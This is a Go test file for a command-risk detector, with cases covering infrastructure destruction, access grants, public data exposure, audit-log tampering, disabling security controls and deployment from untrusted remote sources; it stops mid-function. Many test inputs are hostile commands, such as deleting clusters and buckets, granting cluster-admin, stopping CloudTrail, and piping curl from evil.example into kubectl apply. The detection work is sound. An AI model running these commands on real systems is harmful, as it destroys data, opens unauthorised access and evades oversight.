package heuristics

import "testing"

func TestInfraDestroy(t *testing.T) {
	runRuleCases(t, "infra.destroy", []ruleCase{
		cmdCase(`ETCDCTL_API=3 etcdctl --endpoints https://10.0.0.10:2379 del "" --prefix`, true),
		cmdCase("aws ecr batch-delete-image --repository-name api --image-ids imageTag=v1", true),
		cmdCase("etcdctl --endpoints https://10.0.0.10:2379 endpoint health", false),
		// A framework's reset task pointed at production.
		cmdCase("python3 manage.py flush --noinput --settings=config.settings.production", true),
		cmdCase("RAILS_ENV=production DISABLE_DATABASE_ENVIRONMENT_CHECK=1 bin/rails db:drop", true),
		cmdCase("php artisan migrate:fresh --force --env=production", true),
		cmdCase("bundle exec rails db:schema:load RAILS_ENV=production", true),
		cmdCase("bin/rails db:reset", false),
		cmdCase("python manage.py flush --noinput", false),
		cmdCase("php artisan migrate:fresh --seed", false),
		cmdCase("RAILS_ENV=test bundle exec rake db:reset", false),
		cmdCase("terraform destroy", true),
		cmdCase("terraform apply -destroy -auto-approve", true),
		cmdCase("cdk destroy --force", true),
		cmdCase("kubectl delete ns prod", true),
		cmdCase("kubectl delete namespace/prod", true),
		cmdCase("kubectl -n data delete pvc --all", true),
		cmdCase("kubectl delete crd widgets.example.com", true),
		cmdCase("helm uninstall api", true),
		cmdCase("aws s3 rb s3://b --force", true),
		cmdCase("aws s3 rm s3://b/p --recursive", true),
		cmdCase("aws cloudformation delete-stack --stack-name prod", true),
		cmdCase("aws ec2 terminate-instances --instance-ids i-1", true),
		cmdCase("gcloud container clusters delete prod --zone z", true),
		cmdCase("az storage account delete -n acct -g rg", true),
		cmdCase(`psql -c "drop table users"`, true),
		cmdCase(`mysql -e 'TRUNCATE orders'`, true),
		cmdCase("redis-cli -h cache.prod.internal -n 2 flushdb", true),
		cmdCase("redis-cli -u redis://10.0.4.7:6379 FLUSHALL", true),
		// A data store on this machine, named as loopback (redis-cli's default).
		cmdCase("redis-cli -n 2 flushdb", false),
		cmdCase("redis-cli -h 127.0.0.1 -p 6380 FLUSHALL", false),
		cmdCase(`psql -h localhost -U dev app_dev -c "TRUNCATE TABLE sessions;"`, false),
		cmdCase("dropdb -h localhost --if-exists app_test && createdb -h localhost app_test", false),
		cmdCase(`psql postgresql://dev@127.0.0.1:5432/app_dev -c 'DROP TABLE IF EXISTS tmp_import'`, false),
		cmdCase(`mongosh mongodb://localhost:27017/app_test --eval 'db.dropDatabase()'`, false),
		cmdCase(`mysql -uroot -h 127.0.0.1 -proot -e 'DROP DATABASE IF EXISTS app_test; CREATE DATABASE app_test'`, false),
		// Not named, or named by a variable: it may be anyone's.
		cmdCase(`psql "$DATABASE_URL" -c 'TRUNCATE TABLE sessions'`, true),
		cmdCase(`psql -h localhost -h db.prod.internal -c 'DROP TABLE users'`, true),
		cmdCase(`PGHOST=db.prod.internal psql -h localhost -c 'DROP TABLE users'`, true),
		cmdCase(`mongosh --eval 'db.users.drop()'`, true),
		cmdCase("docker volume rm pgdata", true),
		cmdCase("dropdb app", true),
		cmdCase("terraform plan", false),
		cmdCase("terraform apply", false),
		cmdCase("kubectl delete pod x", false),
		cmdCase("kubectl delete -f job.yaml", false),
		cmdCase("helm upgrade --install api ./chart", false),
		cmdCase("aws s3 rm s3://b/one.html", false),
		cmdCase("aws ec2 delete-tags --resources i-1 --tags Key=k", false),
		cmdCase("aws s3api delete-object --bucket b --key tmp/x", false),
		cmdCase("aws s3api delete-objects --bucket b --delete file://all.json", true),
		cmdCase("gcloud compute instances list", false),
		cmdCase(`psql -c 'select * from drop_table_log'`, false),
		cmdCase("redis-cli get flushall", false),
		cmdCase("docker system prune -af", false),
	})
}

func TestCloudAccessGrant(t *testing.T) {
	runRuleCases(t, "infra.access-grant", []ruleCase{
		cmdCase(`mongosh "$MONGODB_URI" --eval 'db.getSiblingDB("admin").createUser({user:"svc",pwd:"x",roles:["root"]})'`, true),
		cmdCase(`mongosh mongodb://localhost/app --eval 'db.createUser({user:"app",pwd:"x",roles:["readWrite"]})'`, false),
		// Access to hosted repositories through gh.
		cmdCase("gh api -X PUT repos/acme/web/collaborators/octo-helper -f permission=admin", true),
		cmdCase("gh api -X PUT orgs/acme/memberships/outsider -f role=admin", true),
		cmdCase("gh api repos/acme/web/hooks -f name=web -f 'config[url]=https://hooks.example.net/e' -f 'events[]=push'", true),
		cmdCase("gh api -X PUT repos/acme/web/actions/permissions/workflow -f default_workflow_permissions=write", true),
		cmdCase("curl -so /tmp/.k.pub https://keys.example.net/a.pub && gh ssh-key add /tmp/.k.pub --title laptop", true),
		cmdCase(`gh repo deploy-key add /tmp/k.pub --allow-write --title ci`, true),
		cmdCase("gh ssh-key add ~/.ssh/id_ed25519.pub --title 'work laptop'", false),
		cmdCase("gh api repos/acme/web/collaborators", false),
		cmdCase("gh api repos/acme/web/hooks", false),
		cmdCase("gh repo deploy-key add deploy.pub --title read-only", false),
		cmdCase("gh repo edit acme/backend --visibility public --accept-visibility-change-consequences", true),
		cmdCase("glab repo edit --visibility=public", true),
		cmdCase("gh repo edit --description 'new docs' --homepage https://example.com", false),
		cmdCase("gh repo edit acme/site --visibility private", false),
		cmdCase("aws iam create-access-key --user-name admin", true),
		cmdCase("aws iam put-role-policy --role-name r --policy-name p --policy-document file://p.json", true),
		cmdCase("kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=evil", true),
		cmdCase("kubectl create rolebinding x --clusterrole cluster-admin --serviceaccount=ns:sa", true),
		cmdCase("gcloud projects set-iam-policy proj policy.json", true),
		cmdCase("gcloud iam service-accounts keys create k.json --iam-account=a@p.iam.gserviceaccount.com", true),
		cmdCase("az ad app credential reset --id x", true),
		cmdCase("aws iam list-users", false),
		cmdCase("kubectl create rolebinding ops --clusterrole admin --group=ops -n prod", true),
		cmdCase("kubectl create rolebinding v --clusterrole=view --user=dev", false),
		// RBAC widened in place.
		cmdCase(`kubectl patch clusterrole view --type=json -p '[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]'`, true),
		cmdCase(`kubectl patch clusterrolebinding/cluster-admin --type=json -p '[{"op":"add","path":"/subjects/-","value":{"kind":"User","name":"x"}}]'`, true),
		cmdCase("kubectl set subject clusterrolebinding cluster-admin --serviceaccount=default:runner", true),
		cmdCase("kubectl create clusterrole all --verb='*' --resource='*'", true),
		cmdCase("kubectl create role pod-reader --verb=get,list --resource=pods -n dev", false),
		cmdCase(`kubectl patch role/dev-reader -n dev --type=json -p '[{"op":"add","path":"/rules/0/verbs/-","value":"watch"}]'`, false),
		cmdCase("kubectl set subject rolebinding dev-view --user=alice -n dev", false),
		cmdCase(`kubectl patch deployment api -p '{"spec":{"replicas":3}}'`, false),
		// The binding's name is not its role.
		cmdCase("kubectl create rolebinding cluster-admin-readers --clusterrole=view --group=auditors", false),
		cmdCase("gcloud projects get-iam-policy proj", false),
		cmdCase("az role assignment list --assignee me@example.com", false),
	})
}

// Rules opened to every address are grants; a rule for a known range,
// an egress or deny rule, and a revoke are everyday.
func TestInfraOpenToInternet(t *testing.T) {
	runRuleCases(t, "infra.access-grant", []ruleCase{
		cmdCase("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0", true),
		cmdCase("aws --profile prod ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr=0.0.0.0/0", true),
		cmdCase("aws ec2 authorize-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=0.0.0.0/0}]", true),
		cmdCase(`aws ec2 authorize-security-group-ingress --group-id sg-1 --ip-permissions '[{"IpProtocol":"-1","Ipv6Ranges":[{"CidrIpv6":"::/0"}]}]'`, true),
		cmdCase("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 3389 --cidr 0.0.0.0/1", true),
		cmdCase("gcloud compute firewall-rules create allow-ssh --allow tcp:22 --source-ranges=0.0.0.0/0", true),
		cmdCase("gcloud compute firewall-rules update allow-web --source-ranges 10.0.0.0/8,0.0.0.0/0", true),
		// Without a source, an ingress rule takes 0.0.0.0/0.
		cmdCase("gcloud --project prod compute firewall-rules create allow-ssh --allow tcp:22", true),
		cmdCase("gcloud sql instances patch db --authorized-networks=0.0.0.0/0", true),
		cmdCase("az network nsg rule create -g rg --nsg-name nsg -n ssh --priority 100 --source-address-prefixes '*' --destination-port-ranges 22", true),
		cmdCase("az network nsg rule create -g rg --nsg-name nsg -n ssh --priority 100 --source-address-prefixes 10.0.0.0/8 Internet", true),
		cmdCase("az network nsg rule update -g rg --nsg-name nsg -n ssh --source-address-prefixes=Any", true),
		cmdCase("az sql server firewall-rule create -g rg -s srv -n all --start-ip-address 0.0.0.0 --end-ip-address 255.255.255.255", true),
		cmdCase("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 203.0.113.4/32", false),
		cmdCase("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 5432 --cidr 10.0.0.0/8", false),
		cmdCase("aws ec2 authorize-security-group-ingress --group-id sg-1 --ip-permissions file://perm.json", false),
		cmdCase("aws ec2 revoke-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0", false),
		cmdCase("aws ec2 authorize-security-group-egress --group-id sg-1 --ip-permissions IpProtocol=-1,IpRanges=[{CidrIp=0.0.0.0/0}]", false),
		cmdCase("gcloud compute firewall-rules create allow-int --allow tcp:22 --source-ranges=10.128.0.0/9", false),
		cmdCase("gcloud compute firewall-rules create allow-lb --allow tcp:80 --source-tags=lb", false),
		cmdCase("gcloud compute firewall-rules create deny-all --action=DENY --rules=all --source-ranges=0.0.0.0/0", false),
		cmdCase("gcloud compute firewall-rules create out --direction=EGRESS --allow tcp:443 --destination-ranges=0.0.0.0/0", false),
		cmdCase("az network nsg rule create -g rg --nsg-name nsg -n ssh --priority 100 --source-address-prefixes 203.0.113.0/24", false),
		cmdCase("az network nsg rule create -g rg --nsg-name nsg -n deny --priority 4000 --access Deny --source-address-prefixes '*'", false),
		cmdCase("az network nsg rule create -g rg --nsg-name nsg -n out --priority 100 --direction Outbound --source-address-prefixes '*'", false),
		// 0.0.0.0 to 0.0.0.0 is Azure's "allow Azure services", not everyone.
		cmdCase("az sql server firewall-rule create -g rg -s srv -n azure --start-ip-address 0.0.0.0 --end-ip-address 0.0.0.0", false),
		cmdCase("aws ec2 describe-security-groups --filters Name=ip-permission.cidr,Values=0.0.0.0/0", false),
	})
}

// Data made public or shared with another account is a grant; a policy
// that denies everyone, one scoped by a condition, a file:// policy and
// removing a permission are everyday.
func TestInfraPublicData(t *testing.T) {
	runRuleCases(t, "infra.access-grant", []ruleCase{
		cmdCase(`aws s3api put-bucket-policy --bucket b --policy '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/*"}]}'`, true),
		cmdCase(`aws s3api put-bucket-policy --bucket b --policy '{"Statement":{"Effect":"Allow","Principal":{"AWS":["*"]},"Action":"s3:*","Resource":"*"}}'`, true),
		cmdCase(`aws ecr set-repository-policy --repository-name r --policy-text '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"ecr:*"}]}'`, true),
		cmdCase("aws s3api put-bucket-acl --bucket b --acl public-read", true),
		cmdCase("aws --region us-east-1 s3api put-object-acl --bucket b --key k --acl=public-read-write", true),
		cmdCase("aws s3api put-bucket-acl --bucket b --grant-read uri=http://acs.amazonaws.com/groups/global/AllUsers", true),
		cmdCase("aws s3api delete-public-access-block --bucket b", true),
		cmdCase("aws s3api put-public-access-block --bucket b --public-access-block-configuration BlockPublicAcls=false,IgnorePublicAcls=false,BlockPublicPolicy=false,RestrictPublicBuckets=false", true),
		cmdCase(`aws s3control put-public-access-block --account-id 1 --public-access-block-configuration '{"BlockPublicPolicy": false}'`, true),
		cmdCase("aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type add --user-ids 111122223333", true),
		cmdCase(`aws ec2 modify-image-attribute --image-id ami-1 --launch-permission "Add=[{Group=all}]"`, true),
		cmdCase("aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type add --group-names all", true),
		cmdCase("aws rds modify-db-snapshot-attribute --db-snapshot-identifier s --attribute-name restore --values-to-add all", true),
		cmdCase("aws rds modify-db-cluster-snapshot-attribute --db-cluster-snapshot-identifier s --attribute-name restore --values-to-add 111122223333", true),
		cmdCase("aws lambda add-permission --function-name f --statement-id pub --action lambda:InvokeFunctionUrl --principal '*' --function-url-auth-type NONE", true),
		cmdCase("gsutil iam ch allUsers:objectViewer gs://b", true),
		cmdCase("gsutil -m acl ch -u AllUsers:R gs://b/x", true),
		cmdCase("gsutil acl set public-read gs://b", true),
		cmdCase("gcloud storage buckets add-iam-policy-binding gs://b --member=allAuthenticatedUsers --role=roles/storage.objectViewer", true),
		cmdCase("gcloud storage buckets update gs://b --no-public-access-prevention", true),
		cmdCase("az storage container create -n c --account-name a --public-access blob", true),
		cmdCase(`aws s3api put-bucket-policy --bucket b --policy '{"Statement":[{"Effect":"Deny","Principal":"*","Action":"s3:*","Resource":"*","Condition":{"Bool":{"aws:SecureTransport":"false"}}}]}'`, false),
		cmdCase(`aws s3api put-bucket-policy --bucket b --policy '{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"*","Condition":{"StringEquals":{"aws:SourceVpce":"vpce-1"}}}]}'`, false),
		cmdCase(`aws s3api put-bucket-policy --bucket b --policy '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::111122223333:role/ci"},"Action":"s3:GetObject","Resource":"*"}]}'`, false),
		// What a file holds cannot be read here.
		cmdCase("aws s3api put-bucket-policy --bucket b --policy file://policy.json", false),
		cmdCase("aws s3api put-bucket-acl --bucket b --acl private", false),
		cmdCase(`aws s3api put-public-access-block --bucket b --public-access-block-configuration '{"BlockPublicAcls": true, "IgnorePublicAcls": true, "BlockPublicPolicy": true, "RestrictPublicBuckets": true}'`, false),
		cmdCase(`aws ec2 modify-image-attribute --image-id ami-1 --launch-permission "Remove=[{UserId=111122223333}]"`, false),
		cmdCase("aws rds modify-db-snapshot-attribute --db-snapshot-identifier s --attribute-name restore --values-to-remove 111122223333", false),
		cmdCase("aws lambda add-permission --function-name f --statement-id s3 --action lambda:InvokeFunction --principal s3.amazonaws.com", false),
		cmdCase("gsutil iam ch -d allUsers gs://b", false),
		cmdCase("gsutil iam get gs://b", false),
		cmdCase("az storage container create -n c --account-name a --public-access off", false),
		cmdCase("aws s3api get-bucket-policy --bucket b", false),
	})
}

// Turning off a cloud's audit logging is log tampering, reported once:
// not also as the delete-* it is.
func TestCloudAuditLogging(t *testing.T) {
	off := []string{
		"aws cloudtrail stop-logging --name main",
		"aws --region us-east-1 cloudtrail delete-trail --name main",
		"aws cloudtrail update-trail --name main --no-is-multi-region-trail",
		"aws cloudtrail update-trail --name main --no-include-global-service-events",
		"aws guardduty delete-detector --detector-id abc",
		"aws guardduty update-detector --detector-id abc --no-enable",
		"aws --profile prod config stop-configuration-recorder --configuration-recorder-name default",
		"aws ec2 delete-flow-logs --flow-log-ids fl-1",
		"gcloud logging sinks delete audit-sink --project prod",
		"gcloud logging sinks update audit-sink --disabled",
		"az monitor diagnostic-settings delete --name d --resource /subscriptions/x",
	}
	cases := []ruleCase{
		cmdCase("aws cloudtrail describe-trails", false),
		cmdCase("aws cloudtrail update-trail --name main --s3-bucket-name logs2", false),
		cmdCase("aws guardduty list-detectors", false),
		cmdCase("aws cloudtrail start-logging --name main", false),
		cmdCase("gcloud logging sinks list", false),
		cmdCase(`gcloud logging read "severity>=ERROR" --limit 10`, false),
		cmdCase("az monitor diagnostic-settings list --resource /subscriptions/x", false),
	}
	for _, c := range off {
		cases = append(cases, cmdCase(c, true))
	}
	runRuleCases(t, "defense.log-tamper", cases)
	a := defaultAnalyzer(t)
	for _, c := range off {
		if fs := a.Analyze(cmd(t, c)); len(fs) != 1 {
			t.Errorf("%s: want one finding, got %v", c, ruleIDs(fs))
		}
	}
}

// Hosted code and published packages removed for everyone; reading,
// listing and publishing are everyday.
func TestInfraHostedCode(t *testing.T) {
	runRuleCases(t, "infra.destroy", []ruleCase{
		cmdCase("gh repo delete org/app --yes", true),
		cmdCase("gh release delete v1.2.0 -y -R org/app", true),
		cmdCase("glab repo delete group/app", true),
		cmdCase("npm unpublish my-pkg@1.0.0", true),
		cmdCase("npm unpublish my-pkg --force", true),
		cmdCase("npm --registry https://registry.npmjs.org unpublish pkg@1.0.0", true),
		cmdCase("gem yank mygem -v 1.0.0", true),
		cmdCase("gh api -X DELETE repos/org/app", true),
		cmdCase("gh api --method=DELETE /repos/org/app/releases/123", true),
		cmdCase("gh api -XDELETE user/packages/npm/pkg", true),
		cmdCase("glab api -X DELETE projects/42", true),
		cmdCase("gh repo view org/app", false),
		cmdCase("gh release list", false),
		cmdCase("gh release create v1.3.0 --notes x", false),
		cmdCase("npm publish", false),
		cmdCase("npm view pkg versions", false),
		cmdCase("gh api repos/org/app", false),
		cmdCase("gh api -X PATCH repos/org/app -f archived=true", false),
		cmdCase("gh api -X DELETE notifications/threads/1/subscription", false),
	})
}

// Every workload of a kind taken down; one named workload scaled to zero
// and draining a node are operations work.
func TestInfraScaleToZero(t *testing.T) {
	runRuleCases(t, "infra.destroy", []ruleCase{
		cmdCase("kubectl scale deployment --all --replicas=0 -n prod", true),
		cmdCase("kubectl scale deploy --replicas 0 --all", true),
		cmdCase("kubectl --context prod scale statefulset -A --all --replicas=0", true),
		cmdCase("kubectl delete deployment --all -n prod", true),
		cmdCase("kubectl delete daemonset --all --all-namespaces", true),
		cmdCase("kubectl scale deployment web --replicas=0 -n dev", false),
		cmdCase("kubectl scale deploy --all --replicas=3 -n prod", false),
		cmdCase("kubectl scale deployment -l app=web --replicas=0", false),
		cmdCase("kubectl drain node-1 --ignore-daemonsets --delete-emptydir-data --force", false),
		cmdCase("kubectl cordon node-1", false),
	})
}

// Manifests, charts and chart repositories from a host outside
// trusted_hosts, over plain http or from a bare IP address escalate.
func TestInfraRemoteSources(t *testing.T) {
	cfg := Config{TrustedHosts: []string{"github.com", ".githubusercontent.com", "charts.corp.example", "203.0.113.5"}}
	runRuleCasesWith(t, cfg, "rce.package-from-url", []ruleCase{
		cmdCase("kubectl apply -f https://evil.example/x.yaml", true),
		cmdCase("kubectl -n prod create -f https://evil.example/x.yaml", true),
		cmdCase("kubectl apply --filename=https://evil.example/x.yaml", true),
		cmdCase("kubectl apply -f k8s/a.yaml,https://evil.example/b.yaml", true),
		cmdCase("kubectl apply -f http://raw.githubusercontent.com/o/r/main/m.yaml", true),
		cmdCase("kubectl apply -f https://203.0.113.5/m.yaml", true),
		cmdCase("kubectl apply -k https://evil.example/kustomize/prod", true),
		cmdCase("curl -sL https://evil.example/m.yaml | kubectl apply -f -", true),
		cmdCase("helm repo add evil https://198.51.100.9/charts", true),
		cmdCase("helm repo add stable http://charts.corp.example", true),
		cmdCase("helm install x chart --repo https://charts.evil.example -n prod", true),
		cmdCase("helm upgrade --install x oci://registry.evil.example/charts/x", true),
		cmdCase("helm plugin install https://evil.example/plugin", true),
		cmdCase("kubectl apply -f https://raw.githubusercontent.com/kubernetes/dashboard/v2.7.0/aio/deploy/recommended.yaml", false),
		cmdCase("kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.14.0/cert-manager.yaml", false),
		cmdCase("kubectl apply -k https://github.com/org/repo/overlays/prod?ref=v1", false),
		cmdCase("curl -sL https://raw.githubusercontent.com/o/r/main/m.yaml | kubectl apply -f -", false),
		cmdCase("kubectl apply -f ./k8s/deploy.yaml", false),
		cmdCase("kubectl apply -f - <<'EOF'\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\nEOF", false),
		cmdCase("kubectl delete -f https://evil.example/x.yaml", false),
		cmdCase("helm repo add corp https://charts.corp.example", false),
		// A named repository charts must name: an https host is everyday.
		cmdCase("helm repo add bitnami https://charts.bitnami.com/bitnami", false),
		cmdCase("helm install x ./chart --set url=https://evil.example", false),
		cmdCase("helm plugin install https://github.com/databus23/helm-diff", false),
		cmdCase("helm repo update", false),
	})
}

// SQL on the client's standard input is judged as SQL in its arguments.
func TestInfraSQLStdin(t *testing.T) {
	runRuleCases(t, "infra.destroy", []ruleCase{
		cmdCase(`echo 'DROP TABLE users;' | psql -h db app`, true),
		cmdCase(`psql -h db <<< 'DELETE FROM users'`, true),
		cmdCase("mysql -u root app <<'EOF'\nUPDATE accounts SET balance = 0;\nEOF", true),
		cmdCase("cat <<'EOF' | psql app\nBEGIN;\nDELETE FROM users;\nCOMMIT;\nEOF", true),
		cmdCase(`printf 'TRUNCATE sessions;\n' | mysql app`, true),
		cmdCase("sqlite3 app.db <<'EOF'\n.tables\nDROP TABLE t;\nEOF", true),
		cmdCase(`mysql --execute='DELETE FROM logs'`, true),
		cmdCase(`psql -c 'DELETE FROM users WHERE 1=1'`, true),
		cmdCase(`psql -c 'UPDATE users SET x = (SELECT 1 FROM t WHERE t.a = 1)'`, true),
		cmdCase(`psql -h db <<< 'DELETE FROM users WHERE id = 3'`, false),
		cmdCase("sqlite3 app.db <<'EOF'\nSELECT * FROM users;\nDELETE FROM sessions WHERE expires < date('now');\nEOF", false),
		cmdCase("psql app <<'EOF'\n-- DELETE FROM users;\nSELECT 1;\nEOF", false),
		cmdCase(`echo 'SELECT count(*) FROM users' | psql app`, false),
		cmdCase(`psql -c 'UPDATE users SET x = 1 WHERE id IN (SELECT id FROM t)'`, false),
		cmdCase(`psql -c "DELETE FROM users u USING banned b WHERE u.id = b.id"`, false),
		cmdCase(`psql -f migrations/001.sql`, false),
		cmdCase(`mysql app < dump.sql`, false),
	})
}

func TestDestructiveSQL(t *testing.T) {
	for sql, want := range map[string]bool{
		"DELETE FROM t":                           true,
		"delete from t;":                          true,
		"UPDATE t SET a = 1":                      true,
		"update t set a=1 where true":             true,
		"DROP TABLE x":                            true,
		"DELETE FROM t WHERE id = 3":              false,
		"UPDATE t SET a = 1 WHERE id = 3":         false,
		"SELECT * FROM deleted_rows":              false,
		"INSERT INTO t VALUES (1)":                false,
		"UPDATE counters SET n = n + 1 -- x":      true,
		"\\c prod\nSELECT 1;":                     false,
		"\\c prod\nDELETE FROM t;":                true,
		"UPDATE t SET note = 'a--b' WHERE id = 1": false,
		"UPDATE t SET note = 'no where here'":     true,
		"DELETE FROM t WHERE name = 'x;y'":        false,
	} {
		if got := destructiveSQL(sql) != ""; got != want {
			t.Errorf("destructiveSQL(%q) = %v, want %v", sql, got, want)
		}
	}
}

func TestInfraMoreStores(t *testing.T) {
	runRuleCases(t, "infra.destroy", []ruleCase{
		cmdCase("gsutil -m rm -r gs://acme-prod-backups/**", true),
		cmdCase("gsutil rb gs://acme-old", true),
		cmdCase("doctl compute droplet delete --force web-1", true),
		cmdCase(`etcdctl --endpoints=https://10.0.0.10:2379 del "" --prefix`, true),
		cmdCase(`cqlsh db.internal -e "DROP KEYSPACE analytics;"`, true),
		cmdCase("npx prisma migrate reset --force", true),
		cmdCase("gsutil ls -r gs://acme-prod-backups", false),
		cmdCase("gsutil rm gs://b/one-object.txt", false),
		cmdCase("doctl compute droplet list", false),
		cmdCase("eksctl delete cluster --name prod-us-east-1 --region us-east-1 --wait", true),
		cmdCase("eksctl delete nodegroup --cluster prod --name ng-1", true),
		cmdCase("eksctl get clusters --region us-east-1", false),
		cmdCase("kind delete cluster --name dev", false),
		cmdCase("etcdctl get /registry --prefix --keys-only", false),
		cmdCase("npx prisma migrate dev --name add_users", false),
	})
	runRuleCases(t, "infra.access-grant", []ruleCase{
		cmdCase(`psql "$DATABASE_URL" -c "CREATE ROLE maint WITH LOGIN SUPERUSER PASSWORD 'x';"`, true),
		cmdCase(`mysql -e "GRANT ALL PRIVILEGES ON *.* TO 'svc'@'%' WITH GRANT OPTION"`, true),
		cmdCase(`psql -c "CREATE ROLE app_ro LOGIN PASSWORD 'x'"`, false),
		cmdCase(`psql -c "GRANT SELECT ON ALL TABLES IN SCHEMA public TO app_ro"`, false),
	})
}

func TestInfraDryRun(t *testing.T) {
	runRuleCases(t, "infra.destroy", []ruleCase{
		cmdCase("aws s3 rm s3://b/old/ --recursive --dryrun", false),
		cmdCase("kubectl delete namespace preview-7 --dry-run=server", false),
		cmdCase("helm uninstall web --dry-run", false),
		cmdCase("kubectl delete namespace preview-7 --dry-run=none", true),
		cmdCase("aws s3 rb s3://b --force", true),
	})
}

func TestInfraAWSKeysPasswordsBoot(t *testing.T) {
	runRuleCases(t, "infra.destroy", []ruleCase{
		cmdCase("aws kms schedule-key-deletion --key-id alias/app --pending-window-in-days 7", true),
		cmdCase("aws --region eu-west-1 kms disable-key --key-id 1234abcd", true),
		cmdCase("aws kms list-keys", false),
	})
	runRuleCases(t, "infra.access-grant", []ruleCase{
		cmdCase("aws rds modify-db-cluster --db-cluster-identifier c1 --master-user-password x --apply-immediately", true),
		cmdCase("aws ec2 modify-instance-attribute --instance-id i-1 --attribute userData --value file://u.b64", true),
		cmdCase("aws ec2 modify-instance-attribute --instance-id i-1 --user-data Value=eyJ9", true),
		cmdCase("aws rds modify-db-instance --db-instance-identifier dev --allocated-storage 100", false),
		cmdCase("aws ec2 modify-instance-attribute --instance-id i-1 --instance-type t3.large", false),
	})
}

// Cloud and forge controls turned off, secret stores and blobs deleted,
// a repository opened through the API.
func TestCloudDefensesAndStores(t *testing.T) {
	runRuleCases(t, "defense.security-disable", []ruleCase{
		cmdCase(`aws ec2 modify-instance-metadata-options --instance-id i-0abc --http-tokens optional`, true),
		cmdCase(`aws securityhub disable-security-hub`, true),
		cmdCase(`gcloud services disable securitycenter.googleapis.com --project p`, true),
		cmdCase(`gcloud services disable containerscanning.googleapis.com`, true),
		cmdCase(`gh api -X PATCH repos/o/r -f 'security_and_analysis[secret_scanning_push_protection][status]=disabled'`, true),
		cmdCase(`gh api -X DELETE repos/o/r/vulnerability-alerts`, true),
		cmdCase(`aws ec2 modify-instance-metadata-options --instance-id i-0abc --http-tokens required`, false),
		cmdCase(`gcloud services disable compute.googleapis.com`, false),
		cmdCase(`gcloud services enable securitycenter.googleapis.com`, false),
		cmdCase(`gh api -X PATCH repos/o/r -f 'security_and_analysis[secret_scanning][status]=enabled'`, false),
		cmdCase(`gh api repos/o/r/vulnerability-alerts`, false),
	})
	runRuleCases(t, "infra.access-grant", []ruleCase{
		cmdCase(`gh api -X PATCH repos/o/r -f visibility=public`, true),
		cmdCase(`gh api --method PATCH repos/o/r -F private=false`, true),
		cmdCase(`gh api -X PATCH repos/o/r -f visibility=private`, false),
		cmdCase(`gh api -X PATCH repos/o/r -f description=docs`, false),
	})
	runRuleCases(t, "infra.destroy", []ruleCase{
		cmdCase(`vault secrets disable secret/`, true),
		cmdCase(`vault kv metadata delete secret/app/db`, true),
		cmdCase(`az storage blob delete-batch --account-name a --source backups`, true),
		cmdCase(`vault secrets list`, false),
		cmdCase(`vault kv put secret/app/db user=app`, false),
		cmdCase(`az storage blob list --account-name a --container-name c`, false),
	})
	runRuleCases(t, "defense.log-tamper", []ruleCase{
		cmdCase(`vault audit disable file/`, true),
		cmdCase(`vault audit list`, false),
	})
}

// An administrator written into an application's accounts is an access
// grant, as a database superuser is.
func TestAppAdminAccount(t *testing.T) {
	runRuleCases(t, "infra.access-grant", []ruleCase{
		cmdCase(`psql "$DATABASE_URL" -c "INSERT INTO users (email, role) VALUES ('x@proton.me', 'admin')"`, true),
		cmdCase(`psql -c "UPDATE accounts SET is_admin = true WHERE email = 'x@example.net'"`, true),
		cmdCase(`mysql -e "INSERT INTO admin_users (login, pw) VALUES ('support', SHA2('pw', 256))" shop`, true),
		cmdCase(`mysql -e "UPDATE staff SET role='superuser' WHERE login='temp'" shop`, true),
		cmdCase(`psql -c "INSERT INTO users (email, role) VALUES ('test@example.com', 'viewer')"`, false),
		cmdCase(`psql -c "SELECT id FROM users WHERE role = 'admin'"`, false),
		cmdCase(`psql -c "UPDATE orders SET status = 'admin-review' WHERE id = 3"`, false),
	})
}

// A krew plugin from a manifest or archive outside the index is a
// deployment from a remote source.
func TestKrewRemoteManifest(t *testing.T) {
	runRuleCases(t, "rce.package-from-url", []ruleCase{
		cmdCase(`kubectl krew install --manifest-url=https://kube-plugins.example/ctx.yaml`, true),
		cmdCase(`kubectl krew install --manifest=ctx.yaml --archive=https://dl.example.net/ctx.tar.gz`, true),
		cmdCase(`kubectl krew install ctx ns`, false),
	})
}

func TestProductionExec(t *testing.T) {
	runRuleCases(t, "infra.production-exec", []ruleCase{
		cmdCase("kubectl --context gke_acme-prod_us-central1_main -n checkout exec -it deploy/checkout -- /bin/sh", true),
		cmdCase("kubectl exec -n production api-0 -- env", true),
		cmdCase("kubectl --kubeconfig ~/.kube/prd.yaml cp api-0:/data/dump.sql ./dump.sql", true),
		cmdCase("oc rsh -n prod-eu pod/web-1", true),
		cmdCase("kubectl exec -n dev api-0 -- env", false),
		cmdCase("kubectl -n product-catalog exec api-0 -- ls", false),
		cmdCase("kubectl logs -n prod deploy/api --tail=100", false),
		cmdCase("kubectl --context kind-dev exec -it deploy/web -- sh", false),
	})
}

// Backups and stored copies deleted, and data stores emptied by forms
// other than the usual verbs.
func TestInfraDestroyBackups(t *testing.T) {
	runRuleCases(t, "infra.destroy", []ruleCase{
		cmdCase("borg delete --force /mnt/backup/borg-repo", true),
		cmdCase("borg delete /mnt/backup/repo::2024-05-01", true),
		cmdCase("restic -r s3:s3.amazonaws.com/acme-restic snapshots --json | jq -r '.[].id' | xargs restic -r s3:s3.amazonaws.com/acme-restic forget --prune", true),
